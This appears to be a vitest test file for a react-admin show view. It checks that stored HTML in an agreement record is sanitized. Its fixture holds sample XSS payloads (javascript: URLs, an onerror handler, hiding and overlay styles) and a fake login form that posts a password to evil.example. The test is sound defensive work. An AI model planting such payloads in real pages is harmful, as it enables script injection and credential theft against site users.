import { describe, expect, it } from 'vitest';
import { render, screen, waitFor } from '@testing-library/react';
import { AdminContext, RecordContextProvider, memoryStore } from 'react-admin';
import { dataProvider } from '../../dataProvider/dataProvider';
import { i18nProvider } from '../../app/i18nProvider';
import { schemaByName } from '../registry';
import { SchemaShowLayout } from './SchemaShow';
import { FieldDisplay } from './FieldDisplay';

/**
 * Stored HTML on the generated show view goes through the rich-text sanitizer only (issue 22:
 * a bare DOMPurify there kept `<style>` and `<form action>`): what the agreement's 内容 shows.
 */
const STORED = [
  '<style>body { display: none }</style>',
  '<p>条款<a href="javascript:alert(1)">点这里</a><a href="https://example.com/terms" target="_blank">原文</a></p>',
  '<form action="https://evil.example/steal"><input name="password"><button>提交</button></form>',
  '<img src="javascript:alert(2)" alt="x"><img src="https://example.com/a.png" onerror="alert(3)" alt="y">',
  '<p style="position: fixed; top: 0; color: rgb(255, 0, 0)">正文</p>',
].join('');

function showOf(record: Record<string, unknown>) {
  const schema = schemaByName('agreement')!;
  return render(
    <AdminContext dataProvider={dataProvider} i18nProvider={i18nProvider} store={memoryStore()}>
      <RecordContextProvider value={record}>
        <SchemaShowLayout schema={schema} />
      </RecordContextProvider>
    </AdminContext>,
  );
}

describe('stored HTML on the generated show view', () => {
  it('drops <style>, <form action>, javascript: URLs, handlers and layout styles; keeps the text, safe links and images', async () => {
    const view = showOf({ id: 1, title: '服务协议', content: STORED, status: 1 });
    const shown = view.container.querySelector('[data-testid="safe-html"]');
    expect(shown).not.toBeNull();
    // The sanitizer loads with the first stored HTML shown; until then the box is empty.
    await waitFor(() => expect(shown!.getAttribute('aria-busy')).toBeNull());
    const html = shown!.innerHTML;
    expect(shown!.querySelector('style, form, button, input[name="password"]')).toBeNull();
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/onerror|evil\.example|position/i);
    expect(shown!.textContent).toContain('条款');
    expect(shown!.textContent).toContain('正文');
    expect(shown!.querySelector('a[href="https://example.com/terms"]')?.getAttribute('rel')).toContain('noopener');
    expect(shown!.querySelector('img[src="https://example.com/a.png"]')).not.toBeNull();
    expect(view.container.querySelectorAll('[data-testid="safe-html"]')).toHaveLength(1);
  });

  it('a rich-text field whose widget is not registered shows its HTML as text, never as markup', () => {
    const schema = schemaByName('agreement')!;
    const content = { ...schema.field('content')!, widget: undefined, renderers: undefined };
    render(
      <AdminContext dataProvider={dataProvider} i18nProvider={i18nProvider} store={memoryStore()}>
        <FieldDisplay schema={schema} field={content} record={{ id: 1, content: '<style>p{}</style><b>粗体</b>' }} />
      </AdminContext>,
    );
    expect(screen.getByText('<style>p{}</style><b>粗体</b>')).toBeInTheDocument();
    expect(document.querySelector('style:not([data-emotion])')).toBeNull();
  });
});
